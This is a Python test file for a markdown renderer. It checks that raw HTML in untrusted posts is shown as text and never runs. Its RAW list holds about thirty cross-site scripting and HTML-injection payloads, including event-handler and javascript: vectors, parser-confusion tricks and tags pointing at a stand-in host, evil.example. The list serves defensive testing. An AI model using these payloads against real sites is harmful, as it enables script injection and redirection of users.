"""Row 21: with `markup.untrusted`, HTML in a post is shown as text and has no effect."""

from __future__ import annotations

import pytest
from hypothesis import given

from tests import markdown_texts as texts
from tests.page_checks import elements, parse, text_of
from tests.rows import each_row, examples
from tests.security.judgement import harmless

RAW = (
    "<b>bold</b>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<img src=x onerror=alert(1)>",
    '<p style="position:fixed;inset:0">x</p>',
    '<div onclick="alert(1)">x</div>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<form action="https://evil.example/"><input name=x></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>* { display: none }</style>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE x>",
    "<x-element onfocus=alert(1) tabindex=1 autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
)
PLACES = (
    *("{}", "Words {} words.", "- {}", "> {}", "> [!NOTE] {}\n> {}", "| {} |\n|-|\n| {} |", "## {}"),
    *("[{}](/)", "![{}](a.png)", "x[^1]\n\n[^1]: {}", "*{}*", "Term\n: {}", "~~{}~~", "{} {{.lead}}"),
    '<div class="collapsible" data-label="x">\n{}\n</div>',
)


@pytest.mark.parametrize("place", PLACES)
def test_row_21_raw_html_is_text(place: str) -> None:
    for raw in RAW:
        rendered = harmless(place.format(raw, raw))
        assert not [
            tag
            for tag, element in elements(parse(rendered.html))
            if tag in ("svg", "form", "template", "video", "b")
        ], raw
        for _, element in elements(parse(rendered.html)):
            assert not element.get("style") and not element.get("srcdoc")


@each_row("raw", RAW)
def test_row_21_readers_see_what_was_typed(raw: str) -> None:
    # A URL in the text becomes a link, and unknown elements are shown as text.
    assert "".join(raw.split()) in "".join(text_of(harmless(f"Words {raw} words.").html).split())


@given(texts.MARKDOWN)
@examples(150)
def test_row_21_untrusted_text_runs_nothing_and_keeps_its_shape(text: str) -> None:
    harmless(text)
